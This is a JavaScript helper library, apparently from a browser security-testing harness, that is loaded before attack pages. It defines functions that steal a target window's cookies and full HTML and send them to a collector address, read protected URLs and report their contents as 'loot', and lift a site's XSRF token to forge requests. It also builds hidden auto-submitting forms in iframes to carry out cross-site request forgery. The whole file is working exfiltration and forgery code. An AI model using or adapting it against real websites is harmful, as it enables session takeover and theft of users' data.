// Served before a page's own script; the test puts the addresses in.
const A = ADDRESSES;
const me = (path) => A.me + path;
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const soon = (promise, ms = 2000) => Promise.race([promise, pause(ms)]);

async function report(kind, data) {
  const body = JSON.stringify({kind, origin: self.origin, data: String(data).slice(0, 200000)});
  try { await fetch(me("heard"), {method: "POST", mode: "no-cors", body}); }
  catch { new Image().src = me("heard?") + encodeURIComponent(body.slice(0, 1500)); }
}
async function tried(work) {
  try { return await soon(Promise.resolve().then(work)); }
  catch (error) {
    if (["ReferenceError", "SyntaxError"].includes(error.name)) await report("broken", error.stack);
    return undefined;
  }
}
async function attack(work) {
  await tried(() => soon(work(), 20000));
  await report("done", location.href);
  document.title = "selesai";
}
const all = (list, work) => Promise.all(list.map((one) => tried(() => work(one))));
async function rob(read) {
  await all(A.reads, async (url) => { const told = await read(url); if (told) await report("loot", told); });
}
const strike = (act) => all(A.acts, act);
const packed = (one) => one.form ? new URLSearchParams(one.form).toString() : JSON.stringify(one.json ?? {});
const flat = (one, type = null) => ({
  method: one.method, body: packed(one),
  headers: {"Content-Type": type ?? (one.form ? "application/x-www-form-urlencoded" : "application/json")},
});
function loaded(tag, attributes = {}) {
  const node = document.createElement(tag);
  return new Promise((done) => {
    node.onload = node.onerror = () => done(node);
    Object.assign(node, attributes);
    document.body.append(node);
    setTimeout(() => done(node), 1200);
  });
}
// What whoever holds a window of the target would do: with its document, its cookies, its fetch.
async function possess(w) {
  const where = w.location.href;  // a foreign window does not tell
  if (where.startsWith("about:") || where.startsWith(A.me)) return;
  const token = /_xsrf=([^;]+)/.exec(w.document.cookie)?.[1] ?? "";
  await report("loot", w.document.documentElement.outerHTML + w.document.cookie);
  await report("possessed", where);
  const mine = A.acts.filter((one) => one.url.startsWith(w.origin));
  await all(mine, (one) => w.fetch(one.url, {
    ...flat(one), headers: {...flat(one).headers, "X-XSRFToken": decodeURIComponent(token)}}));
}
async function opened(url, name = "_blank", features = "") {
  const w = window.open(url, name, features);
  for (let turn = 0; w && turn < 60; turn++) {
    await pause(40);
    try { if (w.location.href !== "about:blank" && w.document.readyState === "complete") break; }
    catch { await pause(300); break; }
  }
  return w;
}
async function send(form, frame) {
  const there = new Promise((done) => { frame.onload = done; setTimeout(done, 1200); });
  document.body.append(form);
  HTMLFormElement.prototype.submit.call(form);
  await there;
}
function formOf(action, fields, enctype, target, method = "POST") {
  const form = document.createElement("form");
  Object.assign(form, {action, method, enctype, target});
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, {type: "hidden", name, value});
    form.append(input);
  }
  return form;
}
let frames_made = 0;
async function post(url, fields, enctype) {
  const frame = document.createElement("iframe");
  frame.name = "f" + frames_made++;
  document.body.append(frame);
  await send(formOf(url, fields, enctype, frame.name), frame);
}
